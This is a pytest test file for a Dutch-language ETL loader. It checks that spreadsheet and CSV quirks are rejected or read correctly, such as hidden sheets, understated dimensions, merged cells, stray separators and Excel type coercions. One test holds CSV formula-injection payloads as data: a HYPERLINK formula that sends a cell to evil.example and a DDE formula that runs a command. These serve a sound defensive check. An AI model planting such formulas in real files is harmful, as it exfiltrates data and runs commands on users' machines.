"""What spreadsheet programs and old tools write that a reader must not misread: every row loaded or rejected."""

from __future__ import annotations

import re
import zipfile
from datetime import datetime
from pathlib import Path

import pytest

from etl.loader import load
from tests.etl.conftest import history, reasons, table, write

GRANT_HEADER = ["subsidiecode", "financiercode", "initiatiefcode", "bedrag", "startdatum"]


def grants(home: Path) -> list[tuple]:
    return table(home, "SELECT code, CAST(amount AS DOUBLE) FROM grant_award ORDER BY code")


def save(book, path: Path, dimension: str | None = None) -> Path:
    """Save `book`; with `dimension`, rewrite the first sheet's <dimension ref> as a careless tool would."""
    book.save(path)
    if dimension is None:
        return path
    with zipfile.ZipFile(path) as src:
        parts = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info, data in parts:
            if info.filename == "xl/worksheets/sheet1.xml":
                data = re.sub(rb'<dimension ref="[^"]*"/>', f'<dimension ref="{dimension}"/>'.encode(), data)
            out.writestr(info, data)
    return path


def grant_book(rows: int, title: str = "subsidies"):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = title
    sheet.append(GRANT_HEADER)
    for i in range(1, rows + 1):
        sheet.append([f"D{i:02d}", "FIN1", "INI1", 100 + i, "01-01-2024"])
    return book


# -- 1. an understated <dimension ref> -----------------------------------------------------------


@pytest.mark.parametrize("dimension", ["A1:E3", "A1", "A1:C3"])
def test_a_sheet_is_read_whole_whatever_its_dimension_says(base: Path, tmp_path: Path, dimension: str):
    path = save(grant_book(50), tmp_path / "subsidies.xlsx", dimension)
    report = load(base, [path])
    assert report.published, reasons(report)
    published = grants(base)
    assert len(published) == 50 and published[0] == ("D01", 101.0) and published[-1] == ("D50", 150.0)


# -- 2. a wide header of empty cells ------------------------------------------------------------------


def test_formatting_out_to_column_xfd_adds_no_columns(base: Path, tmp_path: Path):
    from openpyxl.styles import Font

    book = grant_book(5)
    sheet = book.active
    for row in range(1, 7):
        sheet.cell(row=row, column=16384).font = Font(bold=True)  # an empty, formatted cell in XFD
    path = save(book, tmp_path / "subsidies.xlsx", "A1:XFD6")
    report = load(base, [path])
    assert report.published and not report.rejects, reasons(report)
    assert [code for code, _ in grants(base)] == ["D01", "D02", "D03", "D04", "D05"]


def test_thousands_of_trailing_separators_are_no_columns(base: Path, tmp_path: Path):
    tail = ";" * 4000
    text = ";".join(GRANT_HEADER) + tail + "\n"
    text += "".join(f"V{i};FIN1;INI1;100;01-01-2024{tail}\n" for i in range(5))
    report = load(base, [write(tmp_path, "subsidies.csv", text)])
    assert report.published and not report.rejects, reasons(report)
    assert [code for code, _ in grants(base)] == ["V0", "V1", "V2", "V3", "V4"]


def test_a_value_right_of_the_named_header_is_rejected_with_its_column(base: Path, tmp_path: Path):
    text = ";".join(GRANT_HEADER) + ";;;\nV1;FIN1;INI1;100;01-01-2024;;;\nV2;FIN1;INI1;100;01-01-2024;;x;\n"
    report = load(base, [write(tmp_path, "subsidies.csv", text)], allow_rejects=True)
    assert reasons(report) == [
        (3, "kolom 7 (zonder naam)", "x", "onbekende kolom: niet in het sjabloon 'subsidies'")
    ]
    assert [code for code, _ in grants(base)] == ["V1"]


# -- 3, 4, 5. typed XLSX cells ---------------------------------------------------------------------


def test_a_percentage_cell_is_read_as_excel_shows_it(base: Path, tmp_path: Path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "gebiedscijfers"
    sheet.append(["gebiedscode", "jaar", "statistiek", "waarde", "bron"])
    sheet.append(["BU99990101", 2023, "aandeel_laag_inkomen", 0.125, "eigen"])
    sheet["D2"].number_format = "0.0%"
    sheet.append(["BU99990101", 2023, "aandeel_65plus", 0.07, "eigen"])
    sheet["D3"].number_format = "0%"
    sheet.append(["BU99990102", 2023, "aandeel_65plus", 1e-07, "eigen"])  # a plain number, not e-notation
    report = load(base, [save(book, tmp_path / "gebiedscijfers.xlsx")])
    assert report.published, reasons(report)
    assert table(base, "SELECT area_code, stat_code, value FROM area_stat ORDER BY area_code, stat_code") == [
        ("BU99990101", "aandeel_65plus", 7.0),
        ("BU99990101", "aandeel_laag_inkomen", 12.5),
        ("BU99990102", "aandeel_65plus", 1e-07),
    ]


def test_a_formula_without_its_value_and_a_boolean_amount_are_rejected(base: Path, tmp_path: Path):
    book = grant_book(1)
    sheet = book.active
    sheet.append(["F1", "FIN1", "INI1", "=1+1", datetime(2024, 1, 1)])  # openpyxl stores no calculated value
    sheet.append(["B1", "FIN1", "INI1", True, datetime(2024, 1, 1)])
    sheet.append(["B2", "FIN1", "INI1", 10, False])
    report = load(base, [save(book, tmp_path / "subsidies.xlsx")], allow_rejects=True)
    assert sorted(reasons(report)) == [
        (3, "bedrag", "=1+1", "formule zonder berekende waarde (open en sla het bestand op in Excel)"),
        (4, "bedrag", "ja", "een ja/nee-waarde (WAAR/ONWAAR in Excel), geen getal"),
        (5, "startdatum", "nee", "een ja/nee-waarde (WAAR/ONWAAR in Excel), geen datum"),
    ]
    assert [code for code, _ in grants(base)] == ["D01"]


# -- 6. hidden sheets ---------------------------------------------------------------------------------


@pytest.mark.parametrize("state", ["hidden", "veryHidden"])
def test_a_hidden_sheet_is_not_loaded_and_the_report_says_so(base: Path, tmp_path: Path, state: str):
    book = grant_book(1)
    old = book.create_sheet("subsidies oud")
    old.sheet_state = state
    old.append(GRANT_HEADER)
    old.append(["OLD1", "FIN1", "INI1", 999999, "01-01-2019"])
    report = load(base, [save(book, tmp_path / "subsidies.xlsx")])
    assert report.published, reasons(report)
    assert grants(base) == [("D01", 101.0)]
    assert report.parts[0].notes == ["verborgen bladen niet geladen: 'subsidies oud'"]


def test_a_file_of_hidden_sheets_only_is_refused_by_name(base: Path, tmp_path: Path):
    book = grant_book(1)
    book.create_sheet("leeg")
    book.active = 1
    book["subsidies"].sheet_state = "hidden"
    report = load(base, [save(book, tmp_path / "subsidies.xlsx")])
    assert not report.published and grants(base) == []
    assert [r.reason for r in report.rejects] == [
        "bestand heeft alleen verborgen bladen ('subsidies'): maak het blad zichtbaar om het te laden"
    ]


# -- 7. carriage returns -------------------------------------------------------------------------------


def test_old_mac_line_ends_load_like_any_other(base: Path, tmp_path: Path):
    path = write(tmp_path, "financiers.csv", "financiercode;naam;type\rF12;Fonds;fonds\rF13;Fonds 2;fonds\r")
    report = load(base, [path])
    assert report.published, reasons(report)
    assert table(base, "SELECT code FROM funder WHERE code LIKE 'F1%' ORDER BY code") == [("F12",), ("F13",)]


def test_a_lone_carriage_return_in_a_field_keeps_the_record_and_the_line_numbers(base: Path, tmp_path: Path):
    header = "initiatiefcode,naam,organisatiecode,themas,vorm,startdatum,einddatum,status,buurten\n"

    def row(code: str, name: str, theme: str = "voedsel") -> str:
        return f"{code},{name},ORG1,{theme},stichting,01-01-2022,,startend,BU99990101\n"

    text = (
        header
        + row("L2", "Buurt\rkeuken")
        + row("L3", "ok")
        + "\n"
        + row("L5", "ok")
        + row("L6", "x", "ruimte")
    )
    report = load(base, [write(tmp_path, "initiatieven.csv", text)], allow_rejects=True)
    assert [(line, column, value) for line, column, value, _ in reasons(report)] == [(6, "themas", "ruimte")]
    assert report.parts[0].rows_in == 4
    assert table(base, "SELECT code FROM initiative WHERE code LIKE 'L%' ORDER BY code") == [
        ("L2",),
        ("L3",),
        ("L5",),
    ]


# -- 8. surplus fields -----------------------------------------------------------------------------------

OBS_HEADER = "initiatiefcode,indicatorcode,buurtcode,periode_start,periode_eind,waarde,doel"


def test_a_row_with_empty_surplus_fields_is_a_shifted_row(base: Path, tmp_path: Path):
    text = (
        OBS_HEADER
        + "\nINI1,deelnemers,,01-01-2011,31-03-2011,12,5,\nINI1,deelnemers,,01-04-2011,30-06-2011,40,50\n"
    )
    report = load(base, [write(tmp_path, "waarnemingen.csv", text)], allow_rejects=True)
    assert reasons(report) == [(2, None, None, "regel heeft 8 velden, de kop heeft er 7")]
    assert table(base, "SELECT value FROM observation") == [(40.0,)]


def test_every_line_ending_in_the_same_separator_is_excels_export(base: Path, tmp_path: Path):
    text = (
        OBS_HEADER
        + ",\nINI1,deelnemers,,01-01-2011,31-03-2011,12,5\nINI1,deelnemers,,01-04-2011,30-06-2011,40,50,\n"
    )
    report = load(base, [write(tmp_path, "waarnemingen.csv", text)])
    assert report.published, reasons(report)
    assert table(base, "SELECT value, target FROM observation ORDER BY value") == [(12.0, 5.0), (40.0, 50.0)]


# -- 9. a header cell over two lines ---------------------------------------------------------------------


def test_a_quoted_header_cell_over_two_lines_is_one_column_name(base: Path, tmp_path: Path):
    path = write(tmp_path, "financiers.csv", '"financiercode\n(verplicht)";naam;type\nFQ1;Fonds Q;fonds\n')
    report = load(base, [path])
    assert not report.published
    assert sorted(reasons(report)) == [
        (3, "financiercode", None, "verplichte kolom ontbreekt in het bestand"),
        (3, "financiercode (verplicht)", "FQ1", "onbekende kolom: niet in het sjabloon 'financiers'"),
    ]


def test_a_data_cell_over_two_lines_in_the_first_column_is_not_a_swallowed_row(base: Path, tmp_path: Path):
    path = write(
        tmp_path, "financiers.csv", 'naam;financiercode;type\n"Fonds\nQ";FQ1;fonds\nFonds R;FQ2;fonds\n'
    )
    report = load(base, [path])
    assert report.published, reasons(report)
    assert table(base, "SELECT code, name FROM funder WHERE code LIKE 'FQ%' ORDER BY code") == [
        ("FQ1", "Fonds\nQ"),
        ("FQ2", "Fonds R"),
    ]


# -- the same classes in the CBS Kerncijfers and 360Giving XLSX readers -------------------------------------


def kwb_book(values: list[object]):
    """A KWB download: one buurt per value of a_inw (inwoners), under a hidden sheet of other numbers."""
    from openpyxl import Workbook

    book = Workbook()
    old = book.active
    old.title = "oud"
    old.append(["gwb_code_10", "regio", "a_inw"])
    old.append(["BU99990101", "Oud", 1])
    old.sheet_state = "hidden"
    sheet = book.create_sheet("kwb")
    book.active = 1
    sheet.append(["gwb_code_10", "regio", "a_inw"])
    sheet.append(["GM9999", "Demostad", 5000])
    sheet.append(["WK999900", "Wijk 0", 5000])
    for i, value in enumerate(values, start=1):
        sheet.append([f"BU9999{i:04d}", f"Buurt {i}", value])
    return book


def kerncijfers(home: Path, path: Path):
    from typer.testing import CliRunner

    from wijkwaarde.cli import app

    args = ["--home", str(home), "cbs", "kerncijfers", "--file", str(path), "--year", "2024"]
    return CliRunner().invoke(app, args, env={"COLUMNS": "300"})


def test_kerncijfers_xlsx_is_read_whole_and_its_hidden_sheet_not_at_all(home: Path, tmp_path: Path):
    path = tmp_path / "kwb.xlsx"
    book = kwb_book([100 + i for i in range(1, 31)])
    book.save(path)
    with zipfile.ZipFile(path) as src:  # the visible sheet is sheet2.xml: claim it ends at row 3
        parts = [(info, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, "w") as out:
        for info, data in parts:
            if info.filename == "xl/worksheets/sheet2.xml":
                data = re.sub(rb'<dimension ref="[^"]*"/>', b'<dimension ref="A1:C5"/>', data)
            out.writestr(info, data)
    result = kerncijfers(home, path)
    assert result.exit_code == 0, result.output
    assert "kwb.xlsx: verborgen bladen niet geladen: 'oud'" in result.output
    assert table(
        home,
        "SELECT count(*), min(value), max(value) FROM area_stat WHERE stat_code = 'inwoners' AND area_code LIKE 'BU%'",
    ) == [(30, 101.0, 130.0)]


@pytest.mark.parametrize(
    ("value", "reason"),
    [
        ("=1+1", "formule zonder berekende waarde ('=1+1')"),
        (True, "(ja/nee) is geen getal"),
    ],
)
def test_kerncijfers_xlsx_formula_without_value_or_boolean_is_no_missing_value(
    home: Path, tmp_path: Path, value: object, reason: str
):
    kwb_book([100, value]).save(tmp_path / "kwb.xlsx")
    result = kerncijfers(home, tmp_path / "kwb.xlsx")
    assert result.exit_code == 1, result.output
    assert not (home / "wijkwaarde.duckdb").exists()
    # refused as a located fault of the user's file (as `wijkwaarde rejects` shows it), not read as missing
    recorded = history(home, "SELECT file_name, column_name, reason FROM rejected_row")
    assert [name for name, _column, reason_text in recorded if reason in reason_text] == ["kwb.xlsx"], (
        recorded
    )


def test_360giving_xlsx_hidden_sheet_and_understated_dimension(base: Path, tmp_path: Path):
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "grants"
    sheet.append(["Identifier", "Title", "Currency", "Amount Awarded", "Award Date", "Recipient Org:Identifier",
                  "Recipient Org:Name", "Funding Org:Identifier", "Funding Org:Name"])  # fmt: skip
    for i in range(1, 21):
        sheet.append(
            [f"360G-x-{i}", "Project", "EUR", 1000 + i, "2024-01-01", "GB-CHC-1", "Org", "GB-CHC-2", "Fund"]
        )
    old = book.create_sheet("oud")
    old.sheet_state = "veryHidden"
    old.append(["Identifier", "Title", "Currency", "Amount Awarded", "Award Date"])
    old.append(["360G-old-1", "Oud", "EUR", 999999, "2019-01-01"])
    path = save(book, tmp_path / "grants.xlsx", "A1:I2")
    report = load(base, [path], file_format="360giving")
    assert report.published, reasons(report)[:5]
    assert report.parts[0].notes == ["verborgen bladen niet geladen: 'oud'"]
    assert table(base, "SELECT count(*), min(code), max(amount) FROM register_grant") == [
        (20, "360G-x-1", 1020)
    ]


# -- 10. the marked workbook writes text as text ------------------------------------------------------------


def test_rejected_formulas_come_back_in_the_marked_file_as_text_not_formulas(base: Path, tmp_path: Path):
    import io

    import openpyxl

    from etl.marked import marked_workbook

    hyperlink = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'
    dde = "=cmd|' /C calc'!A0"
    text = 'financiercode;naam;type\nF1;"' + hyperlink.replace('"', '""') + '";fonds\nF2;' + dde + ";fonds\n"
    path = write(tmp_path, "=financiers.csv", text)
    report = load(base, [path])
    assert not report.published and {r.value for r in report.rejects} == {hyperlink, dde}
    book = openpyxl.load_workbook(io.BytesIO(marked_workbook(path, report.rejects, "csv")))
    cells = [
        cell for ws in book.worksheets for row in ws.iter_rows() for cell in row if cell.value is not None
    ]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    assert [c.value for c in book.worksheets[0]["B"]][1:] == [hyperlink, dde]


# -- 11. names from files are printed as text, never as Rich markup -------------------------------------------


def test_sheet_and_file_names_with_markup_are_printed_as_they_are(base: Path, tmp_path: Path):
    from typer.testing import CliRunner

    from wijkwaarde.cli import app

    book = grant_book(1)
    odd = book.create_sheet("BLADX")  # renamed below: openpyxl (and Excel) refuse [ ] in a sheet name
    odd.append(GRANT_HEADER)
    odd.append(["E1", "FIN1", "INI1", "veel", "01-01-2024"])
    folder = tmp_path / "in"
    folder.mkdir()
    save(book, tmp_path / "tmp.xlsx")
    with (
        zipfile.ZipFile(tmp_path / "tmp.xlsx") as src,
        zipfile.ZipFile(folder / "subsidies.xlsx", "w") as out,
    ):
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == "xl/workbook.xml":
                data = data.replace(b'name="BLADX"', b'name="subsidies[/]"')
            out.writestr(info, data)
    write(folder, "subsidies-[bold]x.csv", ";".join(GRANT_HEADER) + "\nC1;FIN1;INI1;100;01-01-2024\n")
    runner, env = CliRunner(), {"COLUMNS": "300"}
    result = runner.invoke(app, ["--home", str(base), "load", str(folder)], env=env)
    assert result.exit_code == 1, result.output
    assert "subsidies.xlsx#subsidies[/]" in result.output and "subsidies-[bold]x.csv" in result.output
    batch = history_batch(base, "subsidies.xlsx#subsidies[/]")
    result = runner.invoke(app, ["--home", str(base), "rejects", str(batch)], env=env)
    assert result.exit_code == 0, result.output
    assert "subsidies.xlsx#subsidies[/]" in result.output and "veel" in result.output


def history_batch(home: Path, name: str) -> int:
    from tests.etl.conftest import history

    return history(home, "SELECT max(batch_id) FROM load_batch WHERE source_name = ?", [name])[0][0]


# -- 7 and 8 in the register and Kerncijfers CSV readers ------------------------------------------------------

FLAT_360 = (
    "Identifier,Title,Currency,Amount Awarded,Award Date,Recipient Org:Identifier,Recipient Org:Name,"
    "Funding Org:Identifier,Funding Org:Name"
)


def test_360giving_flat_csv_with_old_mac_line_ends_and_a_shifted_row(base: Path, tmp_path: Path):
    rows = [
        "360G-x-1,Project,EUR,1001,2024-01-01,GB-CHC-1,Org,GB-CHC-2,Fund",
        "360G-x-2,Project,EUR,1002,2024-01-01,GB-CHC-1,Org,GB-CHC-2,Fund,",
        "360G-x-3,Project,EUR,1003,2024-01-01,GB-CHC-1,Org,GB-CHC-2,Fund",
    ]
    path = write(tmp_path, "grants.csv", "\r".join([FLAT_360, *rows]) + "\r")
    report = load(base, [path], file_format="360giving", allow_rejects=True)
    assert reasons(report) == [(3, None, None, "regel heeft 10 velden, de kop heeft er 9")]
    assert table(base, "SELECT code FROM register_grant ORDER BY code") == [("360G-x-1",), ("360G-x-3",)]


def test_kerncijfers_csv_with_a_shifted_row_is_refused(home: Path, tmp_path: Path):
    text = "gwb_code_10;regio;a_inw\nGM9999;Demostad;5000\nWK999900;Wijk 0;5000;\nBU99990001;Buurt 1;100\n"
    result = kerncijfers(home, write(tmp_path, "kwb.csv", text))
    assert result.exit_code == 1, result.output
    assert "regel 3 heeft 4 velden, de kop heeft er 3" in result.output
    assert not (home / "wijkwaarde.duckdb").exists()


# -- text columns keep the text Excel shows -------------------------------------------------------------


def test_a_text_column_never_loads_a_value_excel_made_of_what_was_typed(base: Path, tmp_path: Path):
    """TRUE typed as a name was loaded as 'ja', a date as 01-02-2024, a KvK number 01234567 (kept as
    1234567 with format 00000000) as 1234567: each is now the text Excel shows, or rejected with why."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "organisaties"
    sheet.append(["organisatiecode", "naam", "kvk_nummer", "plaats"])
    rows = [
        ["ORG-A", True, None, None],
        ["ORG-B", "Stichting B", 1234567, None],  # shown 01234567
        ["ORG-C", datetime(2024, 2, 1), None, None],  # '1-2' typed, Excel made it a date
        ["ORG-D", "Stichting D", 12345678, None],  # shown 12.345.678
        ["ORG-E", "Stichting E", 12345678, 1.5],
        ["ORG-F", "Stichting F", 12345678901234567, None],  # Excel keeps 15 digits
        ["ORG-G", "Stichting G", None, False],
    ]
    for row in rows:
        sheet.append(row)
    sheet["C3"].number_format = "00000000"
    sheet["C5"].number_format = "#,##0"
    report = load(base, [save(book, tmp_path / "organisaties-excel.xlsx")], allow_rejects=True)
    got = {line: (column, value, reason) for line, column, value, reason in reasons(report)}
    assert sorted(got) == [2, 4, 5, 7, 8], got
    assert (
        got[2][:2] == ("naam", "ja") and "ja/nee-waarde (WAAR/ONWAAR in Excel) in een tekstkolom" in got[2][2]
    )
    assert got[4][:2] == ("naam", "01-02-2024") and "een datum (of tijd) in een tekstkolom" in got[4][2]
    assert got[5][:2] == ("kvk_nummer", "12345678") and "celopmaak '#,##0'" in got[5][2]
    assert got[7][0] == "kvk_nummer" and "meer dan 15 cijfers" in got[7][2]
    assert got[8][:2] == ("plaats", "nee") and "tekstkolom" in got[8][2]
    for _line, (_column, _value, reason) in got.items():
        assert reason.endswith("zet de cel op Tekst en typ de waarde opnieuw")
    assert table(
        base, "SELECT code, name, coc_number, place FROM organisation WHERE code LIKE 'ORG-%' ORDER BY 1"
    ) == [
        ("ORG-B", "Stichting B", "01234567", None),
        ("ORG-E", "Stichting E", "12345678", "1,5"),
    ]


def test_a_csv_text_column_keeps_true_and_waar_as_written(base: Path, tmp_path: Path):
    """In a CSV every cell is the text it holds: WAAR and TRUE in a name stay WAAR and TRUE, and a code
    with leading zeros keeps them (Excel's own CSV export writes what it shows)."""
    path = write(
        tmp_path,
        "organisaties-csv.csv",
        "organisatiecode;naam;kvk_nummer\nORG-W;WAAR;01234567\nORG-T;TRUE;\n",
    )
    report = load(base, [path])
    assert report.published, reasons(report)
    assert table(
        base, "SELECT code, name, coc_number FROM organisation WHERE code LIKE 'ORG-%' ORDER BY 1"
    ) == [
        ("ORG-T", "TRUE", None),
        ("ORG-W", "WAAR", "01234567"),
    ]


def test_a_csv_cut_off_in_the_middle_of_its_last_row_rejects_that_row(base: Path, tmp_path: Path):
    """A download or copy broken off mid-row: its last row has fewer fields and no line end. Loaded, its
    cut value would count (here an amount 250 read as 25; the description after it is optional)."""
    header = "subsidiecode;financiercode;initiatiefcode;startdatum;bedrag;omschrijving"
    text = header + "\nD1;FIN1;INI1;01-01-2024;100;Buurtfeest\nD2;FIN1;INI1;01-01-2024;25"
    report = load(base, [write(tmp_path, "subsidies-afgebroken.csv", text)], allow_rejects=True)
    assert [(line, reason.split(":")[0]) for line, _c, _v, reason in reasons(report)] == [
        (3, "regel is afgebroken")
    ]
    assert [code for code, _ in grants(base)] == ["D1"]
    # a file without a line end after a whole last row is not cut off
    whole = write(tmp_path, "subsidies-heel.csv", ";".join(GRANT_HEADER) + "\nD3;FIN1;INI1;250;01-01-2024")
    assert load(base, [whole]).published


def test_a_merged_cell_over_data_rows_is_rejected_not_loaded_as_empty(base: Path, tmp_path: Path):
    """'Utrecht' merged over three rows of an optional column: Excel shows it in each, the file holds it
    once, so two organisations were loaded without their place. A merged title above the header and
    merged empty cells are no fault."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "organisaties"
    sheet.append(["organisatiecode", "naam", "kvk_nummer", "plaats"])
    for code in ("ORG-M1", "ORG-M2", "ORG-M3", "ORG-M4", "ORG-M5"):
        sheet.append([code, f"Stichting {code}", None, "Utrecht" if code == "ORG-M1" else None])
    sheet.merge_cells("D2:D4")
    sheet.merge_cells("C5:D6")  # empty: shown empty, loaded empty
    report = load(base, [save(book, tmp_path / "organisaties-samengevoegd.xlsx")], allow_rejects=True)
    assert [(line, column, reason.split(": Excel")[0]) for line, column, _v, reason in reasons(report)] == [
        (3, "plaats", "samengevoegde cel D2:D4"),
        (4, "plaats", "samengevoegde cel D2:D4"),
    ]
    assert table(base, "SELECT code, place FROM organisation WHERE code LIKE 'ORG-M%' ORDER BY 1") == [
        ("ORG-M1", "Utrecht"),
        ("ORG-M4", None),
        ("ORG-M5", None),
    ]


def test_a_title_above_the_header_is_refused_saying_where_the_header_is(base: Path, tmp_path: Path):
    """A sheet that starts with a title and an empty row: its first row names no column, so the header
    and the data were rejected as unknown columns. Now every row is rejected with where the header is."""
    from openpyxl import Workbook

    book = Workbook()
    sheet = book.active
    sheet.title = "organisaties"
    sheet.append(["Organisaties van Demostad, stand 1 maart"])
    sheet.append([])
    sheet.append(["organisatiecode", "naam"])
    sheet.append(["ORG-T1", "Stichting T"])
    report = load(base, [save(book, tmp_path / "organisaties-titel.xlsx")])
    assert not report.published
    expected = (
        "de eerste regel noemt geen kolom van het sjabloon 'organisaties'; de kop lijkt op regel 3 te staan: "
        "verwijder de regels erboven"
    )
    assert reasons(report) == [(3, None, None, expected), (4, None, None, expected)]
